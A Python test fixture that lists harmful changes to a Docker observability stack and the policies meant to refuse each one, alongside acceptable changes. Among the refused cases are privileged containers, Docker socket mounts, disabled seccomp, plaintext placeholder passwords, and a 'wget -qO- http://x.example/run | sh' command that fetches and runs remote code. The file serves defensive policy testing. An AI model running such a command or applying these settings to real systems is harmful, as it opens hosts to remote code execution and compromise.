"""Changes that somebody may well make, and the policies that must refuse them."""

from collections.abc import Callable, Mapping, Sequence
from functools import partial
from typing import Any

import yaml

from components.config_files import ARCHIVE, INCOMING
from components.file_archive import packed
from policies.readers import file_archive
from policies.readers.declared_resources import COMMAND, CONTAINER, NETWORK, PROVIDER, VOLUME
from tests.policy.changed_program import Change, Inputs
from tests.policy.pack_host import UNKNOWN, Resource
from tests.support.program import DOOR, EDGE, EVERYTHING, EXPORTERS, FRONT, OF_DOOR, PINNED_STORAGE

LIST, LOKI = "requests.lst", "nervous-prod-loki"
HEALED = {key: EVERYTHING[key] for key in ("notifications", "actions")}
DIGEST = f"sha256:{'b' * 64}"

Document = dict[str, Any]
"""A parsed config file."""


def config(**config: Any) -> Change:
    """Other settings in the stack file."""
    return Change(config)


def rule(**rule: Any) -> Change:
    """A rule in a file of the user's own."""
    return Change(rules=f"groups: [{{name: shop, rules: [{rule}]}}]\n")


def services(**inputs: Any) -> Change:
    """Other inputs of every service. An input is a value, a function of all inputs that returns one, or None for none."""
    return Change(
        edit=partial(_set_inputs, lambda kind, _, properties: kind == CONTAINER and properties.get("mustRun"), inputs)
    )


def jobs(**inputs: Any) -> Change:
    """Other inputs of every container that runs once."""
    return Change(edit=partial(_set_inputs, _is_job, inputs))


def volumes(**inputs: Any) -> Change:
    """Other inputs of every volume with data."""
    return Change(edit=partial(_set_inputs, lambda kind, name, _: kind == VOLUME and "-config" not in name, inputs))


def one(
    kind: str, name: str, config: Mapping[str, Any] | None = None, secrets: Sequence[str] = (), /, **inputs: Any
) -> Change:
    """Other inputs of the resource `name`, with the stack config that selects it."""
    edit = partial(_set_inputs, lambda kind_, name_, _: (kind_, name_) == (kind, name), inputs)
    return Change(config or {}, secrets=secrets, edit=edit)


def container(
    name: str, config: Mapping[str, Any] | None = None, secrets: Sequence[str] = (), /, **inputs: Any
) -> Change:
    """Other inputs of the container `name`, with the stack config that selects it."""
    return one(CONTAINER, name, config, secrets, **inputs)


def text(path: str, old: str, new: str, config: Mapping[str, Any] | None = None, secrets: Sequence[str] = ()) -> Change:
    """Another text in an uploaded file, with the stack config that selects its service."""
    edit = partial(_rewrite_uploads, path, lambda content: content.replace(old, new))
    return Change(config or {}, secrets=secrets, edit=edit)


def document(path: str, change: Callable[[Document], object], config: Mapping[str, Any] | None = None) -> Change:
    """Another content of an uploaded YAML file, with the stack config that selects its service."""

    def rewrite(content: str) -> str:
        parsed = yaml.load(content, Loader=yaml.CSafeLoader)
        change(parsed)
        return yaml.dump(parsed, Dumper=yaml.CSafeDumper, sort_keys=False)

    return Change(config or {}, edit=partial(_rewrite_uploads, path, rewrite))


def _set_inputs(
    selects: Callable[[str, str, Inputs], Any], changes: Inputs, kind: str, name: str, inputs: Inputs
) -> None:
    if not selects(kind, name, inputs):
        return
    values = {key: value(inputs) if callable(value) else value for key, value in changes.items()}
    inputs.update(values)
    for key in (key for key, value in values.items() if value is None):
        del inputs[key]


def _is_job(kind: str, _: str, inputs: Inputs) -> bool:
    return kind == CONTAINER and inputs.get("mustRun") is False and inputs.get("start") is not False


def _rewrite_uploads(path: str, rewrite: Callable[[str], str], kind: str, _: str, inputs: Inputs) -> None:
    uploads = inputs.get("uploads")
    if kind != CONTAINER or not isinstance(uploads, list):  # with a secret in it, the list is one secret
        return
    for upload in uploads:
        if upload["file"] == f"{INCOMING}/{path}":
            upload["content"] = rewrite(upload["content"])
        elif upload["file"] == ARCHIVE and path in (files := file_archive.unpacked(upload["content"])):
            upload["content"] = packed({**files, path: rewrite(files[path])})


def labelled(label: str, value: str) -> Callable[[Inputs], list[Inputs]]:
    """The labels of a container, and one more."""
    return lambda inputs: [*inputs["labels"], {"label": label, "value": value}]


def with_variables(*variables: str) -> Callable[[Inputs], list[str]]:
    """The environment of a container, and more variables. Each replaces the one of its name."""
    names = {variable.partition("=")[0] for variable in variables}
    return lambda inputs: [
        *(entry for entry in inputs.get("envs") or () if entry.partition("=")[0] not in names),
        *variables,
    ]


def with_capability(capability: str) -> Callable[[Inputs], Inputs]:
    """The capabilities of a container, and one more."""
    return lambda inputs: {**inputs["capabilities"], "adds": [*inputs["capabilities"]["adds"], capability]}


def replaced(key: str, old: str, new: str) -> Callable[[Inputs], list[str]]:
    """The words under `key`, with another text."""
    return lambda inputs: [word.replace(old, new) for word in inputs[key]]


def each(key: str, **changes: Any) -> Callable[[Inputs], list[Inputs]]:
    """The items under `key`, each with `changes`."""
    return lambda inputs: [item | changes for item in inputs.get(key) or ()]


def data_mount(**changes: Any) -> Callable[[Inputs], list[Inputs]]:
    """The volumes of a container, with `changes` of those that it writes to. None removes a key."""

    def changed(volume: Inputs) -> Inputs:
        return {key: value for key, value in {**volume, **changes}.items() if value is not None}

    return lambda inputs: [
        volume if volume.get("readOnly") else changed(volume) for volume in inputs.get("volumes") or ()
    ]


def checked(**changes: Any) -> Callable[[Inputs], Inputs | None]:
    """The health check of a container that has one, with `changes`."""
    return lambda inputs: {**inputs["healthcheck"], **changes} if "healthcheck" in inputs else None


def scrape_job(prometheus: Document, name: str) -> Document:
    """One job in Prometheus' config."""
    return next(job for job in prometheus["scrape_configs"] if job["job_name"] == name)


def relabelled(**rule: Any) -> Change:
    """One more relabelling of the user's containers."""
    return document(
        "prometheus.yml",
        lambda prometheus: scrape_job(prometheus, "application-containers")["relabel_configs"].append(rule),
    )


def keep_cgroup_paths(prometheus: Document) -> None:
    """Leaves out that cAdvisor's label `id` is emptied."""
    rules = scrape_job(prometheus, "cadvisor")["metric_relabel_configs"]
    del next(rule for rule in rules if rule.get("target_label") == "id")["replacement"]


def promtail_label(promtail: Document, **label: str) -> None:
    """One more label of Promtail beside the level."""
    stages = promtail["scrape_configs"][0]["pipeline_stages"]
    next(stage["labels"] for stage in stages if "level" in (stage.get("labels") or ())).update(label)


def otlp_labels(loki: Document) -> Document:
    """Which attributes of OTLP logs Loki turns into labels."""
    labels: Document = loki["limits_config"]["otlp_config"]
    return labels


def sampling_policy(collector: Document, name: str) -> Document:
    """One policy of the collector's tail sampling."""
    policies = collector["processors"]["tail_sampling"]["policies"]
    return next(policy for policy in policies if policy["name"] == name)


def drop_failed_health_checks(collector: Document) -> None:
    """Leaves out that a health check with an error is kept."""
    [condition] = sampling_policy(collector, "health")["drop"]["drop_sub_policy"]
    [span] = condition["ottl_condition"]["span"]
    condition["ottl_condition"]["span"] = [span.removesuffix(" and span.status.code != STATUS_CODE_ERROR")]


ELASTICSEARCH = {"traces": {"storage": "elasticsearch"}, "images": PINNED_STORAGE}
GRAFANA = ("grafana_password",)
RUN = {"type": "bind", "source": "/run", "target": "/run", "readOnly": True}
LEVEL_OF_ALLOY = 'values = {"level" = "level"'

BAD: Mapping[str, tuple[Change, set[str]]] = {
    # memory
    "a shipper that needs the memory of all": (
        config(memory={"host": "32GiB", "alloy": "12GiB"}),
        {"memory-ceiling"},
    ),
    "no limit": (services(memory=None), {"memory-limit", "memory-ceiling"}),
    "a limit with swap": (services(memorySwap=lambda inputs: 2 * inputs["memory"]), {"memory-limit"}),
    "a limit that leaves swap to the engine": (services(memorySwap=None), {"memory-limit"}),
    "more reserved than allowed": (services(memoryReservation=lambda inputs: 2 * inputs["memory"]), {"memory-limit"}),
    "a job without a limit": (jobs(memory=None, memorySwap=None), {"memory-limit"}),
    "three times the memory for every service": (
        services(memory=lambda inputs: 3 * inputs["memory"], memorySwap=lambda inputs: 3 * inputs["memorySwap"]),
        {"memory-ceiling", "memory-shares"},
    ),
    # labels
    "a user in the external labels": (
        config(metrics={"external_labels": {"user_id": "7"}}),
        {"low-cardinality-labels"},
    ),
    "a time in the external labels": (
        config(metrics={"external_labels": {"deployed": "2026-11-24T10:00:00Z"}}),
        {"low-cardinality-labels"},
    ),
    "a recording rule by user": (
        rule(record="user:requests:rate5m", expr="sum by (service, user_id) (rate(http_requests_total[5m]))"),
        {"low-cardinality-labels"},
    ),
    "a recording rule with an id": (
        rule(record="job:up:sum", expr="sum(up)", labels={"request_id": "{{ $value }}"}),
        {"low-cardinality-labels"},
    ),
    "a label made of addresses": (
        relabelled(source_labels=["__meta_docker_network_ip"], target_label="peer"),
        {"low-cardinality-labels"},
    ),
    "a label for each container id": (
        relabelled(source_labels=["__meta_docker_container_id"], target_label="replica"),
        {"low-cardinality-labels"},
    ),
    "every Docker label as a label of Prometheus": (
        relabelled(action="labelmap", regex="__meta_docker_container_label_(.+)"),
        {"low-cardinality-labels"},
    ),
    "cgroups by their path": (document("prometheus.yml", keep_cgroup_paths), {"low-cardinality-labels"}),
    "a Docker label with ids for cAdvisor": (
        container("cadvisor", command=replaced("command", "observability.service", "shop.order-id")),
        {"low-cardinality-labels"},
    ),
    "Loki's own choice of labels": (
        document("loki.yml", lambda loki: otlp_labels(loki)["resource_attributes"].pop("ignore_defaults")),
        {"low-cardinality-labels"},
    ),
    "a session in Loki's labels": (
        document(
            "loki.yml",
            lambda loki: otlp_labels(loki)["resource_attributes"]["attributes_config"][0]["attributes"].append(
                "session.id"
            ),
        ),
        {"low-cardinality-labels"},
    ),
    "a user of each log in Loki's labels": (
        document("loki.yml", lambda loki: otlp_labels(loki)["log_attributes"][0]["attributes"].append("user.id")),
        {"low-cardinality-labels"},
    ),
    "trace ids as labels of Alloy": (
        text("config.alloy", LEVEL_OF_ALLOY, f'{LEVEL_OF_ALLOY}, "trace_id" = ""'),
        {"low-cardinality-labels"},
    ),
    "trace ids as labels of Promtail": (
        document(
            "promtail.yml",
            lambda promtail: promtail_label(promtail, trace="trace_id"),
            {"logs": {"shipper": "promtail"}},
        ),
        {"low-cardinality-labels"},
    ),
    "paths under an innocent name": (
        text("config.alloy", LEVEL_OF_ALLOY, f'{LEVEL_OF_ALLOY}, "page" = "url"'),
        {"low-cardinality-labels"},
    ),
    "the host's address as a label of its log": (
        text("config.alloy", '"source" = "system"', '"source" = "system", "host_ip" = "h"'),
        {"low-cardinality-labels"},
    ),
    "container addresses as labels of logs": (
        text(
            "config.alloy",
            '    target_label = "source"\n    replacement = "docker"\n',
            '    source_labels = ["__meta_docker_network_ip"]\n    target_label = "source"\n',
        ),
        {"low-cardinality-labels"},
    ),
    "a session on everything that Alloy sends": (
        text("config.alloy", 'loki.write "loki" {', 'loki.write "loki" {\n  external_labels = {"session_id" = "x"}'),
        {"low-cardinality-labels"},
    ),
    "raw paths as a dimension of span metrics": (
        document(
            "collector.yml",
            lambda collector: collector["connectors"]["span_metrics"].update(dimensions=[{"name": "url.path"}]),
        ),
        {"low-cardinality-labels"},
    ),
    "users as a dimension of the service graph": (
        document(
            "collector.yml",
            lambda collector: collector["connectors"]["service_graph"].update(dimensions=["enduser.id"]),
        ),
        {"low-cardinality-labels"},
    ),
    "a series for each process": (
        document(
            "collector.yml",
            lambda collector: collector["connectors"]["span_metrics"]["resource_metrics_key_attributes"].append(
                "service.instance.id"
            ),
        ),
        {"low-cardinality-labels"},
    ),
    "all attributes of a resource as labels": (
        document(
            "collector.yml",
            lambda collector: collector["exporters"]["prometheus/otlp"].update(
                resource_to_telemetry_conversion={"enabled": True}
            ),
        ),
        {"low-cardinality-labels"},
    ),
    "a container label with the time of the deployment": (
        services(labels=labelled("deployed-at", "2026-11-24T10:00:00Z")),
        {"low-cardinality-labels"},
    ),
    # retention
    "metrics for ten years": (config(metrics={"retention": {"time": "10y"}}), {"retention-bounds"}),
    "metrics for a week in production": (config(metrics={"retention": {"time": "7d"}}), {"retention-bounds"}),
    "metrics that fill the disk": (
        config(metrics={"retention": {"size": "190GiB"}}, disk={"budget": "400GiB"}),
        {"disk-budget"},
    ),
    "metrics of unlimited size": (
        document("prometheus.yml", lambda prometheus: prometheus["storage"]["tsdb"]["retention"].pop("size")),
        {"disk-budget"},
    ),
    "logs for a year": (
        config(logs={"retention": {"time": "365d"}, "budget": {"per_day": "50MB"}}),
        {"retention-bounds", "disk-budget"},
    ),
    "logs of one service for more than a year": (
        config(logs={"retention": {"services": {"audit": "400d"}}}),
        {"retention-bounds"},
    ),
    "logs for a day in production": (config(logs={"retention": {"time": "1d"}}), {"retention-bounds"}),
    "logs that are never deleted": (
        document("loki.yml", lambda loki: loki["compactor"].update(retention_enabled=False)),
        {"retention-bounds"},
    ),
    "traces for three months": (config(traces={"retention": "90d"}), {"retention-bounds", "disk-budget"}),
    "traces in Badger for ever": (text("jaeger.yml", "spans: 168h0m0s", "spans: 0s"), {"retention-bounds"}),
    "traces in Elasticsearch that are never deleted": (
        text("clean.sh", "es-index-cleaner", "true", ELASTICSEARCH),
        {"retention-bounds"},
    ),
    # sampling
    "half of the errors": (config(traces={"sampling": {"errors": 50}}), {"errors-are-kept"}),
    "a fifth of the errors of one service": (
        config(traces={"sampling": {"services": {"checkout": {"errors": 20}}}}),
        {"errors-are-kept"},
    ),
    "another status instead of errors": (
        document(
            "collector.yml",
            lambda collector: sampling_policy(collector, "errors")["status_code"].update(status_codes=["OK"]),
        ),
        {"errors-are-kept"},
    ),
    "failed health checks dropped like others": (
        document("collector.yml", drop_failed_health_checks),
        {"errors-are-kept"},
    ),
    # images
    "an image without a digest": (
        config(images={"prometheus": "docker.io/prom/prometheus:v3.15.0"}),
        {"images-are-pinned"},
    ),
    "the latest image": (config(images={"loki": f"docker.io/grafana/loki:latest@{DIGEST}"}), {"images-are-pinned"}),
    "an image from an unknown registry": (
        config(images={"jaeger": f"registry.example.com/jaeger:2.21.0@{DIGEST}"}),
        {"images-are-pinned"},
    ),
    "a mirror that is not allowed": (config(images={"registry": "mirror.example.com/hub"}), {"images-are-pinned"}),
    # exposure
    "Prometheus for everybody": (config(publish={"prometheus": "0.0.0.0:9090"}), {"ports-on-loopback"}),
    "traces from everybody, by IPv6": (config(publish={"otlp_http": "[::]:4318"}), {"ports-on-loopback"}),
    "Loki for the local network": (config(publish={"loki": "10.0.0.5:3100"}), {"ports-on-loopback"}),
    "the metrics of Grafana's front for everybody": (
        container("caddy", FRONT, GRAFANA, ports=each("ports", internal=2019)),
        {"ports-on-loopback"},
    ),
    "a port without an address": (services(ports=each("ports", ip=None)), {"ports-on-loopback"}),
    "the folder of the Docker socket in the log shipper": (
        container("alloy", mounts=lambda inputs: [*inputs["mounts"], RUN]),
        {"docker-socket"},
    ),
    "a proxy of the Docker socket that passes everything on": (
        text("haproxy.cfg", "http-request deny unless METH_GET or METH_HEAD", "# everything"),
        {"engine-doors"},
    ),
    "a container of the stack in the door's list": (
        text(LIST, "POST /containers/shop-orders/restart", f"POST /containers/{LOKI}/restart", HEALED),
        {"engine-doors"},
    ),
    "a container of the stack in the list of those that are rolled back": (
        text("rollbacks.json", '"shop-orders"', f'"{LOKI}"', HEALED),
        {"engine-doors"},
    ),
    "folders of the host that can be written to": (
        services(mounts=each("mounts", readOnly=False)),
        {"docker-socket", "apart-from-the-host"},
    ),
    "privileged containers": (services(privileged=True), {"apart-from-the-host"}),
    "the host's network": (services(networkMode="host"), {"apart-from-the-host"}),
    "the host's processes": (services(pidMode="host"), {"apart-from-the-host"}),
    "a capability that is as good as all": (
        container("cadvisor", capabilities=with_capability("CAP_SYS_ADMIN")),
        {"apart-from-the-host"},
    ),
    "no filter of system calls": (services(securityOpts=["seccomp=unconfined"]), {"apart-from-the-host"}),
    "a volume that is a folder of the system": (
        volumes(driverOpts={"type": "none", "o": "bind", "device": "/etc"}),
        {"apart-from-the-host"},
    ),
    "a volume whose name is the socket": (
        services(volumes=data_mount(volumeName="/var/run/docker.sock")),
        {"docker-socket", "apart-from-the-host"},
    ),
    "the processes of another container": (services(pidMode="container:shop"), {"apart-from-the-host"}),
    "a disk as a device": (
        container("cadvisor", devices=each("devices", hostPath="/dev/sda")),
        {"apart-from-the-host"},
    ),
    "a network on the host's wire": (one(NETWORK, "network", driver="macvlan"), {"apart-from-the-host"}),
    "a plugin of the engine": (
        Change(addition=Resource({"name": "x/y"}, "plugin", "docker:index/plugin:Plugin")),
        {"known-kinds"},
    ),
    "another engine": (
        Change(addition=Resource({"host": "ssh://ops@elsewhere.example.com"}, "elsewhere", PROVIDER)),
        {"one-engine"},
    ),
    "an unknown command": (
        one(COMMAND, "annotation", create=".venv/bin/python -m http.server"),
        {"known-commands"},
    ),
    "unknown modules for a known command": (
        one(COMMAND, "annotation", environment=lambda inputs: {**inputs["environment"], "PYTHONPATH": "/tmp"}),  # noqa: S108
        {"known-commands"},
    ),
    # secrets
    "a password in a health check": (
        services(healthcheck=checked(tests=["CMD", "redis-cli", "-a", "correct horse", "ping"])),
        {"no-secrets-in-clear"},
    ),
    "a password in a config file": (
        document(
            "prometheus.yml",
            lambda prometheus: prometheus.update(remote_read=[{"basic_auth": {"password": "pepper"}}]),
        ),
        {"no-secrets-in-clear"},
    ),
    "a password in the environment": (
        services(envs=with_variables("ADMIN_PASSWORD=correct horse")),
        {"no-secrets-in-clear"},
    ),
    "a webhook in a label": (
        services(labels=labelled("notify", "https://hooks.slack.com/services/T0/B0/x")),
        {"no-secrets-in-clear"},
    ),
    "a password in a URL on the command line": (
        container("alertmanager", command=replaced("command", "url=http://", "url=http://ops:pepper@")),
        {"no-secrets-in-clear"},
    ),
    "the password of Grafana": (
        container("grafana", {}, GRAFANA, envs=with_variables("GF_SECURITY_ADMIN_PASSWORD=admin")),
        {"no-secrets-in-clear"},
    ),
    "the password of Elasticsearch": (
        container(
            "elasticsearch",
            ELASTICSEARCH,
            envs=with_variables("xpack.security.enabled=true", "ELASTIC_PASSWORD=changeme"),
        ),
        {"no-secrets-in-clear"},
    ),
    "a password as an output": (Change(outputs={"database_password": "correct horse"}), {"no-secrets-in-outputs"}),
    # operation
    "a program that is fetched at each start": (
        services(entrypoints=["sh", "-c"], command=["wget -qO- http://x.example/run | sh"]),
        {"images-are-pinned", "no-usage-reports"},
    ),
    "health checks that never fail": (
        services(healthcheck=checked(tests=["CMD-SHELL", "wget -q http://x || true"])),
        {"health-check"},
    ),
    "no health checks": (services(healthcheck=None), {"health-check"}),
    "logs that are not rotated": (services(logOpts={"max-file": "3"}), {"log-rotation"}),
    "the engine's default log driver": (services(logDriver=None), {"log-rotation"}),
    "services that stay down after a reboot": (services(restart="no"), {"restart-policy"}),
    "a loader that is restarted for ever": (jobs(restart="always"), {"restart-policy"}),
    # volumes
    "data in a volume without a name": (services(volumes=data_mount(volumeName=None)), {"data-volumes"}),
    "a volume whose name the provider chooses": (volumes(name=None), {"data-volumes"}),
    "a label on every volume": (volumes(labels=[{"label": "team", "value": "shop"}]), {"data-volumes"}),
    "volumes that are not declared as retained": (Change(missing_output="data_volumes"), {"data-volumes"}),
    "data beside the volume": (
        container("prometheus", volumes=data_mount(containerPath="/data")),
        {"data-volumes"},
    ),
    # usage reports
    "Loki's reports": (document("loki.yml", lambda loki: loki.pop("analytics")), {"no-usage-reports"}),
    "Alloy's reports": (
        container("alloy", command=replaced("command", "--disable-reporting", "--stability.level=experimental")),
        {"no-usage-reports"},
    ),
    "Grafana's reports": (
        text("grafana.ini", "reporting_enabled = false", "reporting_enabled = true", {}, GRAFANA),
        {"no-usage-reports"},
    ),
    "Grafana's questions for updates": (
        text("grafana.ini", "check_for_updates = false\n", "", {}, GRAFANA),
        {"no-usage-reports"},
    ),
    "Elasticsearch's downloads": (
        container(
            "elasticsearch", ELASTICSEARCH, envs=replaced("envs", "geoip.downloader.enabled=false", "geoip.eager=false")
        ),
        {"no-usage-reports"},
    ),
}
"""What it is → the change, and exactly the policies that refuse it."""

UNKNOWN_LIMIT = services(memory=UNKNOWN)
"""A limit that is known only after the update."""

GOOD: Mapping[str, Change] = {
    "more memory for Loki": config(memory={"loki": "4GiB"}),
    "a lower ceiling": config(memory={"ceiling": "8GiB"}),
    "metrics for a quarter": config(metrics={"retention": {"time": "90d", "size": "60GiB"}}, disk={"budget": "130GiB"}),
    "logs for two months": config(
        logs={"retention": {"time": "60d"}}, metrics={"retention": {"size": "45GiB"}}, disk={"budget": "200GiB"}
    ),
    "debug lines for three days": config(logs={"retention": {"levels": {"debug": "3d"}}}),
    "traces for two weeks": config(
        traces={"retention": "14d"}, disk={"budget": "110GiB"}, metrics={"retention": {"size": "45GiB"}}
    ),
    "traces for two weeks in Elasticsearch": config(
        **ELASTICSEARCH
        | {
            "traces": {"storage": "elasticsearch", "retention": "14d"},
            "disk": {"budget": "110GiB"},
            "metrics": {"retention": {"size": "45GiB"}},
        }
    ),
    "logs in an object store": config(logs={"s3": {"bucket": "shop-logs"}}),
    "copies of everything far away": Change(
        {
            "metrics": {
                "remote_write": [{"name": "mimir", "url": "https://mimir.example.com/w", "tenant": "shop"}],
                "long_term": {"local": True},
            },
            "logs": {"remote": {"url": "https://logs.example.com", "user": "shop"}},
            "traces": {"remote": {"url": "https://otlp.example.com", "header": "x-team"}},
        },
        secrets=("remote_mimir", "remote_logs", "remote_traces"),
    ),
    "traces in a cluster that asks for a password": Change(
        {
            "traces": {"storage": "elasticsearch", "cluster": {"url": "https://search.example.com", "user": "jaeger"}},
            "images": PINNED_STORAGE,
        },
        secrets=("traces_password",),
    ),
    "half of the other traces": config(traces={"sampling": {"rest": 50}}),
    "all traces of one service": config(traces={"sampling": {"services": {"checkout": {"rest": 100}}}}),
    "a region in the external labels": config(metrics={"external_labels": {"region": "eu-west-1"}}),
    "a recording rule by route": rule(
        record="route:requests:rate5m", expr="sum by (service, route, status) (rate(http_requests_total[5m]))"
    ),
    "an alert of the user's own": rule(
        alert="QueueLong", expr="queue_length > 100", labels={"severity": "warning", "team": "shop"}
    ),
    "the user's databases": config(exporters={key: EXPORTERS[key] for key in ("postgres", "redis", "nginx")}),
    "a probe": config(exporters={"probes": EXPORTERS["probes"]}),
    "every service": Change(EVERYTHING, secrets=("slack_webhook", "pagerduty_key", "s3_credentials")),
    "Promtail": config(logs={"shipper": "promtail"}),
    "a centre with edges": Change(DOOR, secrets=OF_DOOR),
    "an edge": Change(EDGE, secrets=("centre_password",)),
    "Grafana under a domain": Change(FRONT, secrets=GRAFANA),
    "Prometheus on no port": config(publish={"prometheus": None}),
    "Prometheus on IPv6's loopback": config(publish={"prometheus": "[::1]:9090"}),
    "an image of an allowed registry": config(images={"prometheus": f"quay.io/prometheus/prometheus:v3.15.1@{DIGEST}"}),
    "a network of the user's": config(networks=["shop_default"]),
    "a mask for order numbers": config(logs={"mask": {"order": r"order=(\d+)"}}),
    "a team on every container": services(labels=labelled("team", "platform")),
    "routes as a dimension of span metrics": document(
        "collector.yml",
        lambda collector: collector["connectors"]["span_metrics"].update(dimensions=[{"name": "http.route"}]),
    ),
    "a namespace as a label of logs": text(
        "config.alloy", LEVEL_OF_ALLOY, f'{LEVEL_OF_ALLOY}, "namespace" = "namespace"'
    ),
    "a password by the name of its file": services(
        envs=with_variables("ADMIN_PASSWORD_FILE=/config/current/secrets/admin")
    ),
    "variables that only sound like secrets": services(
        envs=with_variables("TOKEN_TTL=3600", "KEYS_PREFIX=shop", "MAX_TOKENS=9")
    ),
    "a weak capability": container("cadvisor", capabilities=with_capability("CAP_NET_BIND_SERVICE")),
    "a setting of the container's own network": services(sysctls={"net.core.somaxconn": "1024"}),
    "a private namespace for memory": services(ipcMode="private"),
    "a network without a way out": one(NETWORK, "network", internal=True),
    "more room for temporary files": services(
        tmpfs=lambda inputs: {
            path: options.replace("64m", "128m") for path, options in (inputs.get("tmpfs") or {}).items()
        }
    ),
    "more patience in health checks": services(healthcheck=checked(timeout="20s")),
    "services that always restart": services(restart="always"),
    "more of each log": services(logOpts={"max-size": "20m", "max-file": "5"}),
}
"""What it is → a change that passes every policy."""
